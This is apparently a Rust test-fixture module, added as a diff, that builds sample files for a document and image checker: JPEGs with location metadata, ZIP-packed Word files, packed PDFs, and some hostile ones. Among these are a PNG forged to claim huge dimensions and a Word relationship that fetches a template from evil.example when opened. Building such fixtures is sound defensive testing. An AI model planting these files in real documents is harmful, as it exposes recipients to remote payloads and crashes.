@@ -1,0 +1,127 @@
+//! Files made for the tests: pictures, packed documents, PDFs, each harmless or not.
+
+use std::io::Write;
+
+use flate2::Compression;
+use flate2::write::{DeflateEncoder, ZlibEncoder};
+use image::{ImageFormat, Rgb, RgbImage};
+
+/// A picture of so many pixels.
+pub fn picture(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
+    let picture =
+        RgbImage::from_fn(width, height, |x, y| Rgb([(x % 256) as u8, (y % 256) as u8, 120]));
+    let mut out = std::io::Cursor::new(Vec::new());
+    picture.write_to(&mut out, format).unwrap();
+    out.into_inner()
+}
+
+/// A photograph with a place, a camera and its orientation in its metadata.
+pub fn photograph() -> Vec<u8> {
+    let plain = picture(40, 20, ImageFormat::Jpeg);
+    // TIFF: little-endian, one directory: the camera's maker and "turned a quarter".
+    let maker = b"GPS 57.7586 N 16.6384 E\0";
+    let mut exif = b"Exif\0\0II*\0\x08\0\0\0\x02\0".to_vec();
+    exif.extend(b"\x0f\x01\x02\0");
+    exif.extend((maker.len() as u32).to_le_bytes());
+    exif.extend(38u32.to_le_bytes());
+    exif.extend(b"\x12\x01\x03\0\x01\0\0\0\x06\0\0\0");
+    exif.extend(0u32.to_le_bytes());
+    exif.extend(maker);
+    let mut out = plain[..2].to_vec();
+    out.extend([0xff, 0xe1]);
+    out.extend((exif.len() as u16 + 2).to_be_bytes());
+    out.extend(exif);
+    out.extend(&plain[2..]);
+    out
+}
+
+/// A PNG that claims to be as large as a field.
+pub fn pixel_flood() -> Vec<u8> {
+    let mut png = picture(2, 2, ImageFormat::Png);
+    png[16..20].copy_from_slice(&60_000u32.to_be_bytes());
+    png[20..24].copy_from_slice(&60_000u32.to_be_bytes());
+    let crc = crc32(&png[12..29]);
+    png[29..33].copy_from_slice(&crc.to_be_bytes());
+    png
+}
+
+fn crc32(bytes: &[u8]) -> u32 {
+    let mut crc = flate2::Crc::new();
+    crc.update(bytes);
+    crc.sum()
+}
+
+/// A packed file with these parts.
+pub fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
+    let (mut out, mut list) = (Vec::new(), Vec::new());
+    for (name, bytes) in parts {
+        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
+        encoder.write_all(bytes).unwrap();
+        let body = encoder.finish().unwrap();
+        let start = out.len() as u32;
+        let mut common = Vec::new();
+        common.extend(20u16.to_le_bytes());
+        common.extend(0u16.to_le_bytes());
+        common.extend(8u16.to_le_bytes());
+        common.extend([0; 4]);
+        common.extend(crc32(bytes).to_le_bytes());
+        common.extend((body.len() as u32).to_le_bytes());
+        common.extend((bytes.len() as u32).to_le_bytes());
+        common.extend((name.len() as u16).to_le_bytes());
+        common.extend(0u16.to_le_bytes());
+        out.extend(b"PK\x03\x04");
+        out.extend(&common);
+        out.extend(name.as_bytes());
+        out.extend(body);
+        list.extend(b"PK\x01\x02\x14\0");
+        list.extend(&common);
+        list.extend([0; 10]);
+        list.extend(start.to_le_bytes());
+        list.extend(name.as_bytes());
+    }
+    let (count, start) = (parts.len() as u16, out.len() as u32);
+    out.extend(&list);
+    out.extend(b"PK\x05\x06\0\0\0\0");
+    out.extend(count.to_le_bytes());
+    out.extend(count.to_le_bytes());
+    out.extend((list.len() as u32).to_le_bytes());
+    out.extend(start.to_le_bytes());
+    out.extend([0; 2]);
+    out
+}
+
+const TYPES: &[u8] = b"<?xml version=\"1.0\"?><Types><Override PartName=\"/word/document.xml\" \
+    ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
+const LINKS: &[u8] = b"<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" \
+    Type=\"http://schemas.example/officeDocument/relationships/hyperlink\" \
+    Target=\"https://vastervik.example\" TargetMode=\"External\"/></Relationships>";
+
+/// A Word document, with further parts.
+pub fn word(more: &[(&str, &[u8])]) -> Vec<u8> {
+    let parts: [(&str, &[u8]); 4] = [
+        ("[Content_Types].xml", TYPES),
+        ("_rels/.rels", b"<Relationships/>"),
+        ("word/document.xml", "<w:document>Språkkafé</w:document>".as_bytes()),
+        ("word/_rels/document.xml.rels", LINKS),
+    ];
+    let kept: Vec<(&str, &[u8])> =
+        parts.into_iter().filter(|(name, _)| !more.iter().any(|(m, _)| m == name)).collect();
+    packed(&[&kept, more].concat())
+}
+
+/// A document that fetches its template from somewhere when it is opened.
+pub const TEMPLATE: &[u8] = b"<Relationships><Relationship Id=\"r1\" \
+    Type=\"http://schemas.example/officeDocument/relationships/attachedTemplate\" \
+    Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
+
+/// A PDF whose objects are packed, as newer writers do.
+pub fn packed_pdf(objects: &str, filter: &str) -> Vec<u8> {
+    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
+    encoder.write_all(objects.as_bytes()).unwrap();
+    let body = encoder.finish().unwrap();
+    let head = format!(
+        "%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter {filter} /Length {} >>\nstream\n",
+        body.len()
+    );
+    [head.as_bytes(), &body, b"\nendstream\nendobj\n%%EOF\n"].concat()
+}
